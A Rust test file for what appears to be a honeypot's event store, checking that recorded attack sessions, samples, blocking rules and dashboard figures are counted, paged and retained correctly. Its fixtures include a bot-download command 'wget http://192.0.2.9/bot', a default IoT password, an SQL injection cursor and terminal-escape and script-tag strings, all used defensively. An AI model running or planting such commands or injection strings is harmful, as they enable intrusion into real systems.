//! What the pages ask: after one attack, every figure is the one that the events say.
#![allow(clippy::unwrap_used, reason = "a test may panic")]
mod common;

use common::{NOON, attack, command, event, lab, login, opened};
use otori_event::{EventKind, RawText, Stage, Timestamp};
use otori_store::query::{
    Demo, EventFilter, EventQuery, IndicatorQuery, Missed, Order, Range, SampleQuery, SessionQuery,
};
use otori_store::view::SampleState;
use otori_store::{QueryLimit, Store, StoreError};

fn limit() -> QueryLimit {
    QueryLimit::default()
}

fn store() -> (tempfile::TempDir, Store) {
    let folder = tempfile::tempdir().unwrap();
    let (store, _) = Store::open(folder.path()).unwrap();
    (folder, store)
}

#[test]
fn one_attack_is_seen_on_every_page() {
    let (_folder, store) = store();
    let sha256 = store.put_artifact(b"\x7fELF").unwrap();
    let start = NOON.plus_seconds(-600);
    let events = attack(start, 0xabc, sha256);
    assert_eq!(store.append(&events).unwrap().new, events.len() as u64);
    assert_eq!(
        store.append(&events).unwrap().duplicates,
        events.len() as u64,
        "the same events again change nothing"
    );

    let overview = store.overview(Range::Day, Demo::Include, NOON, &limit()).unwrap();
    assert_eq!(overview.sessions.now, 1);
    assert_eq!(overview.stages[&Stage::Infection].now, 1);
    assert_eq!(overview.stages[&Stage::Login].now, 0, "a session counts once, under its furthest stage");
    assert_eq!(overview.series.infection.iter().sum::<u64>(), 1);
    assert_eq!(overview.series.at.len(), 96);
    assert_eq!(overview.events.now, events.len() as u64);
    assert_eq!(overview.countries[0].special.unwrap().as_str(), "documentation");
    assert_eq!(overview.credentials.len(), 2);
    let accepted = overview.credentials.iter().find(|found| found.accepted == 1).unwrap();
    assert_eq!((&accepted.user, &accepted.password), (&RawText::from("root"), &RawText::from("vizxv")));
    assert_eq!(overview.commands[0].line, RawText::from("wget http://192.0.2.9/bot"));
    assert_eq!((overview.new_samples.now, overview.samples.len()), (1, 1));
    assert_eq!((overview.active_blocks, overview.refused.now), (1, 1));
    assert_eq!(overview.capture_to_block_ms.median, Some(650));
    assert_eq!(overview.last_event_at.map(Timestamp::as_ms), Some(start.as_ms() + 5_000));
    for range in [Range::Hour, Range::Week, Range::Month, Range::All] {
        let other = store.overview(range, Demo::Include, NOON, &limit()).unwrap();
        assert_eq!((other.sessions.now, other.new_samples.now), (1, 1), "{}", range.as_str());
        assert_eq!(other.series.infection.iter().sum::<u64>(), 1, "{}", range.as_str());
    }
    assert_eq!(store.overview(Range::Day, Demo::Only, NOON, &limit()).unwrap().sessions.now, 0);

    let session = store.session(otori_event::SessionId::new(0xabc), 100, None, &limit()).unwrap();
    assert_eq!(session.session.stage, Stage::Infection);
    assert_eq!((session.session.logins, session.session.commands, session.session.captures), (2, 1, 1));
    assert_eq!(session.session.credential.unwrap().password, RawText::from("vizxv"));
    assert_eq!(session.session.reason.as_deref(), Some("peer closed"));
    assert_eq!(session.events.items.len(), 6);
    assert!(session.events.items.is_sorted_by_key(|event| event.id));
    assert_eq!((session.captures.len(), session.indicators.len()), (1, 1));

    let sample = store.sample(&sha256, &limit()).unwrap();
    assert_eq!(sample.sample.state, SampleState::Detonated);
    assert_eq!(sample.sample.cpu.as_deref(), Some("mips"));
    assert_eq!(sample.report.unwrap().trace.len(), 1);
    assert_eq!((sample.sessions.len(), sample.captures.len()), (1, 1));
    assert_eq!(sample.indicators[0].rule, Some(9_000_001));
    assert_eq!(store.artifact(&sha256).unwrap().unwrap(), b"\x7fELF");

    let network = store.network(Range::Day, Demo::Include, NOON, &limit()).unwrap();
    assert_eq!(network.rules[0].enforced[0].guard, "guard-1");
    assert_eq!((network.rules[0].refusals, network.rules_total), (1, 1));
    assert_eq!((network.guards[0].rules, network.guards[0].refused), (1, 1));
    assert_eq!((network.devices[0].device.as_str(), network.devices[0].refused), ("198.51.100.7", 1));
    assert_eq!(network.verdicts.len(), 1);
    assert_eq!(network.latency.capture_to_refusal_ms.median, Some(2_000));

    let geo = store.geo(Range::Day, Demo::Include, NOON, &limit()).unwrap();
    assert_eq!((geo.countries.len(), geo.special[0].count), (0, 1));
    assert_eq!((store.indicators_all().unwrap().len(), store.rules_live().unwrap().len()), (1, 1));
    let sizes = store.sizes(store.retention(), &limit()).unwrap();
    assert_eq!((sizes.inbox_events, sizes.artifacts, sizes.artifact_bytes), (events.len() as u64, 1, 4));
    assert_eq!(store.totals(&limit()).unwrap()["login_attempt"], 2);
}

#[test]
fn a_rule_that_is_removed_and_comes_back_starts_anew() {
    let (_folder, store) = store();
    let sha256 = store.put_artifact(b"x").unwrap();
    store.append(&attack(NOON.plus_seconds(-60), 1, sha256)).unwrap();
    let change = |sequence, at: Timestamp, change| lab(at, sequence, EventKind::RuleChanged { change });
    let remove = otori_event::RuleChange::Remove { sid: 9_000_001, reason: "expired".into() };
    store.append(&[change(50, NOON.plus_seconds(-30), remove)]).unwrap();
    assert_eq!(store.rules_live().unwrap().len(), 0);
    assert_eq!(store.network(Range::Day, Demo::Include, NOON, &limit()).unwrap().guards[0].rules, 0);
    let rule = common::rule(NOON.plus_seconds(-20), 9_000_001, "http://192.0.2.9/bot");
    store.append(&[change(51, NOON.plus_seconds(-20), otori_event::RuleChange::Add { rule })]).unwrap();
    let network = store.network(Range::Day, Demo::Include, NOON, &limit()).unwrap();
    assert_eq!((network.rules[0].refusals, network.rules[0].enforced.len()), (0, 0));
}

#[test]
fn a_session_is_the_same_in_whatever_order_its_events_come() {
    let sha256 = otori_event::Sha256([3; 32]);
    let events: Vec<_> = attack(NOON.plus_seconds(-60), 0xabc, sha256);
    let seen = |order: &[usize]| {
        let (_folder, store) = store();
        for i in order {
            store.append(&[events[*i].clone()]).unwrap();
        }
        let overview = store.overview(Range::Day, Demo::Include, NOON, &limit()).unwrap();
        let session = store.session(otori_event::SessionId::new(0xabc), 100, None, &limit()).unwrap();
        (overview.stages, overview.countries, overview.products, session.session)
    };
    let expect = seen(&[0, 1, 2, 3, 4, 11]);
    assert_eq!(seen(&[1, 2, 0, 3, 4, 11]), expect);
    assert_eq!(seen(&[4, 3, 2, 1, 0, 11]), expect);
    assert_eq!(seen(&[11, 4, 3, 2, 1, 0]), expect);
}

#[test]
fn windows_do_not_overlap_and_demonstrations_are_apart() {
    let (_folder, store) = store();
    let mut demo = opened(NOON.plus_seconds(-120), 3);
    demo.demo = true;
    let hours = |hours: i64| NOON.plus_seconds(-hours * 3_600);
    store.append(&[opened(hours(1), 1), opened(hours(30), 2), demo]).unwrap();
    let overview = store.overview(Range::Day, Demo::Exclude, NOON, &limit()).unwrap();
    assert_eq!((overview.sessions.now, overview.sessions.before), (1, Some(1)));
    let overview = store.overview(Range::Day, Demo::Include, NOON, &limit()).unwrap();
    assert_eq!((overview.sessions.now, overview.sessions.before), (2, Some(1)));
    let overview = store.overview(Range::All, Demo::Only, NOON, &limit()).unwrap();
    assert_eq!((overview.sessions.now, overview.sessions.before), (1, None));
}

#[test]
fn lists_are_paged_without_gaps_or_repeats() {
    let (_folder, store) = store();
    let events: Vec<_> = (0..25).map(|i| opened(NOON.plus_seconds(-100 + (i as i64) / 5), i + 1)).collect();
    store.append(&events).unwrap();
    let mut query = SessionQuery { limit: 4, ..SessionQuery::default() };
    let mut seen = Vec::new();
    loop {
        let page = store.sessions(&query, NOON, &limit()).unwrap();
        seen.extend(page.items.iter().map(|session| (session.opened_at, session.id)));
        query.cursor = page.next;
        if query.cursor.is_none() {
            break;
        }
    }
    assert_eq!(seen.len(), 25);
    assert!(seen.windows(2).all(|pair| pair[0] > pair[1]));
    let query = SessionQuery { stage: Some(Stage::Login), limit: 5, ..SessionQuery::default() };
    assert!(store.sessions(&query, NOON, &limit()).unwrap().items.is_empty());
    let query = SessionQuery { source: "203.0.113.3".parse().ok(), limit: 5, ..SessionQuery::default() };
    assert_eq!(store.sessions(&query, NOON, &limit()).unwrap().items.len(), 1);
    let bad = SessionQuery { cursor: Some("'; DROP TABLE session".into()), ..SessionQuery::default() };
    assert!(matches!(store.sessions(&bad, NOON, &limit()), Err(StoreError::Cursor)));
    assert!(
        store
            .samples(&SampleQuery { limit: 5, ..SampleQuery::default() }, NOON, &limit())
            .unwrap()
            .items
            .is_empty()
    );
    assert!(
        store
            .indicators(&IndicatorQuery { limit: 5, ..IndicatorQuery::default() }, &limit())
            .unwrap()
            .items
            .is_empty()
    );
}

/// Every page of a query, joined.
fn all(store: &Store, filter: EventFilter, order: Order, page: usize) -> Vec<otori_event::EventId> {
    let mut query = EventQuery { filter, order, limit: page, cursor: None };
    let mut ids = Vec::new();
    for _ in 0..10_000 {
        let found = store.events(&query, &QueryLimit::new(std::time::Duration::from_secs(30))).unwrap();
        ids.extend(found.items.iter().map(|event| event.id));
        query.cursor = found.next;
        if query.cursor.is_none() {
            return ids;
        }
    }
    panic!("the pages never end");
}

#[test]
fn inbox_and_segments_read_as_one_list() {
    let (_folder, store) = store();
    let mut events = Vec::new();
    for i in 0..400u64 {
        let at = NOON.plus_seconds(-40_000 + 100 * i as i64);
        events.push(opened(at, i % 7 + 1));
        events.push(login(
            at.plus_ns(1_000_000),
            i % 7 + 1,
            1 + i as u32,
            "admin",
            &format!("pass{i}"),
            false,
        ));
        events.push(command(at.plus_ns(2_000_000), i % 7 + 1, 900 + i as u32, "Echo \"quoted\" \u{202e}"));
    }
    // Two segments that overlap in time, because some events came late; the rest stays in the inbox.
    let late = |i: usize| i % 3 == 1;
    let first: Vec<_> =
        events.iter().enumerate().filter(|(i, _)| !late(*i)).map(|(_, e)| e.clone()).collect();
    let second: Vec<_> =
        events.iter().enumerate().filter(|(i, _)| late(*i)).map(|(_, e)| e.clone()).collect();
    store.append(&first).unwrap();
    assert!(store.seal(NOON.plus_seconds(-20_000)).unwrap() > 0);
    store.append(&second).unwrap();
    assert!(store.seal(NOON.plus_seconds(-15_000)).unwrap() > 0);
    assert_eq!(store.seal(NOON.plus_seconds(-15_000)).unwrap(), 0);
    let sizes = store.sizes(store.retention(), &limit()).unwrap();
    assert_eq!((sizes.segments, sizes.inbox_events + sizes.sealed_events), (2, 1_200));
    assert_eq!(store.append(&events).unwrap().new, 0, "sealed events are known, too");

    let expect = |wanted: &dyn Fn(&otori_event::Event) -> bool| {
        let mut ids: Vec<_> = events.iter().filter(|event| wanted(event)).map(|event| event.id).collect();
        ids.sort();
        ids
    };
    let check = |filter: EventFilter, wanted: &dyn Fn(&otori_event::Event) -> bool| {
        let mut ids = expect(wanted);
        assert_eq!(all(&store, filter.clone(), Order::Oldest, 7), ids, "{filter:?}");
        ids.reverse();
        assert_eq!(all(&store, filter.clone(), Order::Newest, 100), ids, "{filter:?}");
    };
    check(EventFilter::default(), &|_| true);
    check(EventFilter { kinds: vec!["command".into()], ..EventFilter::default() }, &|event| {
        event.kind.as_str() == "command"
    });
    let session = otori_event::SessionId::new(3);
    check(EventFilter { session: Some(session), ..EventFilter::default() }, &|event| {
        event.session == Some(session)
    });
    check(EventFilter { source: "203.0.113.4".parse().ok(), ..EventFilter::default() }, &|event| {
        event.session == Some(session)
    });
    let (since, until) = (NOON.plus_seconds(-30_000), NOON.plus_seconds(-10_000));
    check(EventFilter { since: Some(since), until: Some(until), ..EventFilter::default() }, &|event| {
        (since..until).contains(&event.at)
    });
    check(EventFilter { text: Some("PASS39".into()), ..EventFilter::default() }, &|event| {
        format!("{:?}", event.kind).contains("pass39")
    });
    check(
        EventFilter { text: Some("echo \"quoted\" \u{202e}".into()), ..EventFilter::default() },
        &|event| event.kind.as_str() == "command",
    );
    for event in events.iter().step_by(101) {
        assert_eq!(store.event(event.id, &limit()).unwrap().as_ref(), Some(event));
    }
}

#[test]
fn a_stream_resumes_where_it_stopped_and_says_when_it_cannot() {
    let (_folder, store) = store();
    let events: Vec<_> = (0..30).map(|i| opened(NOON.plus_seconds(i as i64), i + 1)).collect();
    store.append(&events[..10]).unwrap();
    let seen = store.last_sequence();
    store.append(&events[10..]).unwrap();
    let Missed::Events(missed) = store.events_after(seen, 500, &limit()).unwrap() else { panic!("too much") };
    assert_eq!(
        missed.iter().map(|(_, event)| event.id).collect::<Vec<_>>(),
        events[10..].iter().map(|e| e.id).collect::<Vec<_>>()
    );
    assert_eq!(store.events_after(store.last_sequence(), 500, &limit()).unwrap(), Missed::Events(vec![]));
    assert_eq!(store.events_after(store.last_sequence() + 1, 500, &limit()).unwrap(), Missed::TooMuch);
    store.seal(NOON.plus_seconds(20)).unwrap();
    assert_eq!(store.events_after(seen, 500, &limit()).unwrap(), Missed::TooMuch, "some of it is sealed");
}

#[test]
fn what_is_past_its_time_goes_and_the_sequence_goes_on() {
    let folder = tempfile::tempdir().unwrap();
    let (store, _) = Store::open(folder.path()).unwrap();
    store.append(&[opened(NOON, 1), common::closed(NOON.plus_seconds(1), 1, 1, Stage::Probe)]).unwrap();
    store.append_recording(otori_event::SessionId::new(1), b"{}\n").unwrap();
    let later = NOON.plus_seconds(10 * 86_400);
    assert_eq!(store.maintain(later).unwrap().sealed_events, 2);
    let done = store.maintain(NOON.plus_seconds(400 * 86_400)).unwrap();
    assert_eq!((done.removed_segments, done.removed_sessions), (1, 1));
    assert!(store.recording(otori_event::SessionId::new(1)).unwrap().is_none());
    let last = store.last_sequence();
    drop(store);
    let (store, recovery) = Store::open(folder.path()).unwrap();
    assert_eq!((store.last_sequence(), recovery.events), (last, 0));
}

#[test]
fn a_full_inbox_is_sealed_early_but_for_the_last_minute() {
    let folder = tempfile::tempdir().unwrap();
    let options = otori_store::Options { inbox_events_max: 10, ..otori_store::Options::default() };
    let (store, _) = Store::open_with(folder.path(), options).unwrap();
    store
        .append(&(0..20).map(|i| opened(NOON.plus_seconds(-10 * i), i as u64 + 1)).collect::<Vec<_>>())
        .unwrap();
    assert_eq!(store.maintain(NOON).unwrap().sealed_events, 13);
    assert_eq!(store.maintain(NOON).unwrap().sealed_events, 0);
    assert_eq!(all(&store, EventFilter::default(), Order::Newest, 5).len(), 20);
}

#[test]
fn a_query_past_its_deadline_is_stopped() {
    let (_folder, store) = store();
    store.append(&[opened(NOON, 1)]).unwrap();
    let over = QueryLimit::new(std::time::Duration::ZERO);
    assert!(matches!(store.overview(Range::Day, Demo::Include, NOON, &over), Err(StoreError::Stopped)));
    let stopped = limit();
    stopped.stop();
    assert!(matches!(store.events(&EventQuery::default(), &stopped), Err(StoreError::Stopped)));
}

#[test]
fn only_one_writes_and_others_read_beside_it() {
    let (folder, store) = store();
    store.append(&[opened(NOON, 1)]).unwrap();
    assert!(matches!(Store::open(folder.path()), Err(StoreError::InUse { .. })));
    let reader = otori_store::Reader::open(folder.path()).unwrap();
    let query = EventQuery { limit: 10, ..EventQuery::default() };
    assert_eq!(reader.events(&query, &limit()).unwrap().items.len(), 1);
    store.append(&[event(NOON.plus_seconds(1), 1, 1, EventKind::Unsupported { call: "x".into() })]).unwrap();
    assert_eq!(reader.events(&query, &limit()).unwrap().items.len(), 2);
    let empty = tempfile::tempdir().unwrap();
    assert!(matches!(otori_store::Reader::open(empty.path()), Err(StoreError::Missing { .. })));
}

#[test]
fn hostile_text_is_kept_exactly() {
    let (_folder, store) = store();
    let hostile: [&[u8]; 6] = [
        b"<script>alert(1)</script>",
        "\u{202e}\u{2066}gpj.exe".as_bytes(),
        b"\x1b]0;owned\x07\x1b[2J",
        b"a\0b",
        b"\xff\xfe\x80",
        &[b'A'; 1 << 20],
    ];
    let events: Vec<_> = hostile
        .iter()
        .enumerate()
        .map(|(i, text)| {
            event(NOON.plus_seconds(i as i64), 9, i as u32, EventKind::Command { line: RawText::new(text) })
        })
        .collect();
    store.append(&events).unwrap();
    let query = EventQuery { order: Order::Oldest, limit: 10, ..EventQuery::default() };
    assert_eq!(store.events(&query, &limit()).unwrap().items, events);
    store.seal(NOON.plus_seconds(100)).unwrap();
    assert_eq!(store.events(&query, &limit()).unwrap().items, events);
    assert_eq!(
        store.overview(Range::Day, Demo::Include, NOON.plus_seconds(60), &limit()).unwrap().commands.len(),
        6
    );
}
